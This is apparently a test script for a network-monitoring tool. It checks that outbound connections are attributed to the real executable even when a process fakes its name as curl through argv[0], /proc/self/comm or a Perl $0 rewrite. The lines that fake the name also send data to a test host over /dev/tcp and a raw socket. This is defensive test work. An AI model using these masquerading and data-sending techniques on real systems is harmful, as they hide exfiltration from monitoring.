# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# L02: argv[0], comm and the command line say curl: only for display, the executable counts.
. /snitch/leak/lib/leak.sh

leak_begin
way "argv[0]" $EVIL tcp 80 bash -c "exec -a $CURL $EVIL tcp $F4 80 --data leak"
t_seen "what it claims is shown beside it" "^OWNER .*exe=$EVIL cmd=$CURL,tcp,"
cp /bin/bash $DIR/bash
way "comm written in /proc" $DIR/bash tcp 80 \
	$DIR/bash -c "printf curl >/proc/self/comm; exec 3<>/dev/tcp/$F4/80; echo leak >&3; :"
t_is "the name it gave itself is not taken over" "$(field comm '^OWNER ')" bash
cp "$(readlink -f /usr/bin/perl)" $DIR/perl
cat >$DIR/talk.pl <<-'END'
	use Socket;
	$0 = "/usr/bin/curl";
	socket(S, PF_INET, SOCK_STREAM, 0) or die;
	connect(S, sockaddr_in(80, inet_aton($ARGV[0]))) or die "connect: $!";
	syswrite(S, "leak");
END
way "prctl(PR_SET_NAME) and a rewritten command line" $DIR/perl tcp 80 $DIR/perl $DIR/talk.pl $F4
t_seen "what it claims is shown beside it" "^OWNER .* comm=perl exe=$DIR/perl cmd=/usr/bin/curl,"
leak_done
